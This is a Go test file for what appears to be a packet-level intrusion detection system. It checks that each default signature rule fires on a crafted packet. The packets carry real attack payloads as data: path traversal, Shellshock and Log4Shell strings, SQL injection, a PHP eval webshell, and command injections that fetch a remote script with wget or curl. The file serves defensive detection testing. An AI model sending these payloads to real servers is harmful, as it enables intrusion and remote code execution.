package signature

import (
	"github.com/xdpids/xdpids/userspace/detect/alert"
	"testing"

	"github.com/xdpids/xdpids/userspace/signature/rules"
)

// TestDefaultRules fires every rule of the embedded default set with a
// generated packet, and checks a benign exchange fires none.
func TestDefaultRules(t *testing.T) {
	const c, s = "203.0.113.7", "198.51.100.10"
	req := func(payload string) pkt {
		return pkt{src: c, dst: s, sport: 40000, dport: 80, flags: "PA", seq: 101, ack: 501, payload: payload}
	}
	resp := func(payload string) pkt {
		return pkt{src: s, dst: c, sport: 80, dport: 40000, flags: "PA", seq: 501, ack: 101, payload: payload}
	}
	cases := []struct {
		sid       uint32
		handshake bool
		p         pkt
	}{
		{8500001, false, pkt{src: c, dst: s, sport: 40000, dport: 22, flags: "FPU"}},
		{8500002, false, pkt{src: c, dst: s, sport: 40000, dport: 22, flags: ""}},
		{8500003, false, pkt{src: c, dst: s, sport: 40000, dport: 22, flags: "F"}},
		{8500004, true, req("GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)\r\n\r\n")},
		{8500005, true, req("GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)\r\n\r\n")},
		{8500007, true, req("GET / HTTP/1.1\r\nUser-Agent: zgrab/0.x\r\n\r\n")},
		{8500006, false, pkt{src: c, dst: s, proto: 17, sport: 40000, dport: 161, payload: "\x30\x26\x02\x01\x01\x04\x06public\xa0\x19"}},
		{8500101, true, req("GET /download?file=/etc/passwd HTTP/1.1\r\n\r\n")},
		{8500102, true, req("GET /static/../../../../etc/shadow HTTP/1.1\r\n\r\n")},
		{8500103, true, req("GET /static/%2E%2E%2F%2e%2e%2fetc/hosts HTTP/1.1\r\n\r\n")},
		{8500104, true, req("GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c 'id'\r\n\r\n")},
		{8500105, true, req("GET / HTTP/1.1\r\nX-Api-Version: ${JNDI:ldap://198.51.100.99/a}\r\n\r\n")},
		{8500106, true, req("GET /?q=%24%7bjndi%3aldap://x/a HTTP/1.1\r\n\r\n")},
		{8500107, true, req("GET /item.php?id=1+UNION/**/ALL+SELECT+user,pass+FROM+users HTTP/1.1\r\n\r\n")},
		{8500108, true, req("POST /login HTTP/1.1\r\nContent-Length: 30\r\n\r\nuser=admin' OR '1'='1&pass=x")},
		{8500109, true, req("POST /up.php HTTP/1.1\r\n\r\ncmd=eval(base64_decode('ZWNobyAx'));")},
		{8500110, true, req("GET /ping?host=1.1.1.1;wget http://198.51.100.99/x.sh HTTP/1.1\r\n\r\n")},
		{8500111, true, req("POST /api/diag HTTP/1.1\r\n\r\nhost=x|curl -s https://198.51.100.99/x.sh")},
		{8500201, true, resp("uid=0(root) gid=0(root) groups=0(root)\n")},
		{8500202, true, resp("HTTP/1.1 200 OK\r\n\r\nroot:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n")},
		{8500203, true, resp("Microsoft Windows [Version 10.0.19045.3803]\r\n(c) Microsoft Corporation. All rights reserved.\r\n")},
	}
	set, skipped := rules.Parse(rules.DefaultRules, "default.rules", rules.Vars{})
	if len(skipped) > 0 {
		t.Fatalf("default rules skipped: %v", skipped)
	}
	tested := map[uint32]bool{}
	for _, tc := range cases {
		tested[tc.sid] = true
	}
	for _, r := range set.Rules {
		if r.SID < 8500000 || r.SID > 8599999 {
			t.Errorf("sid %d outside 8500000-8599999", r.SID)
		}
		if !tested[r.SID] {
			t.Errorf("default rule %d has no test packet", r.SID)
		}
	}
	for _, tc := range cases {
		h := newHarness(t, rules.DefaultRules, Options{})
		if tc.handshake {
			h.handshake(c, s, 40000, 80)
		}
		got := h.send(frame(t, tc.p))
		if len(got) != 1 || got[0] != tc.sid {
			t.Errorf("sid %d: alerts %v, want exactly [%d]", tc.sid, got, tc.sid)
		}
	}
	// A benign exchange fires nothing.
	h := newHarness(t, rules.DefaultRules, Options{})
	h.handshake(c, s, 40001, 80)
	for _, p := range []pkt{
		{src: c, dst: s, sport: 40001, dport: 80, flags: "PA", seq: 101, ack: 501, payload: "GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/8.5.0\r\n\r\n"},
		{src: s, dst: c, sport: 80, dport: 40001, flags: "PA", seq: 501, ack: 180, payload: "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"},
		{src: c, dst: s, sport: 40001, dport: 80, flags: "FA", seq: 180, ack: 580},
	} {
		if got := h.send(frame(t, p)); len(got) > 0 {
			t.Errorf("benign packet alerted: %v", got)
		}
	}
}

// TestDefaultRuleSIDsApart: the built-in rules' sids (8500000-8599999)
// are none of the detectors' and models' (alert.Builtin): an alert's sid
// names one thing.
func TestDefaultRuleSIDsApart(t *testing.T) {
	set, _ := rules.Parse(rules.DefaultRules, "default.rules", rules.DefaultVars())
	builtin := map[uint32]string{}
	for _, s := range alert.Builtin {
		builtin[s.SID] = s.Msg
	}
	for _, r := range set.Rules {
		if r.SID < 8500000 || r.SID > 8599999 {
			t.Errorf("built-in rule sid %d outside 8500000-8599999", r.SID)
		}
		if msg, ok := builtin[r.SID]; ok {
			t.Errorf("built-in rule sid %d is also %q", r.SID, msg)
		}
	}
}
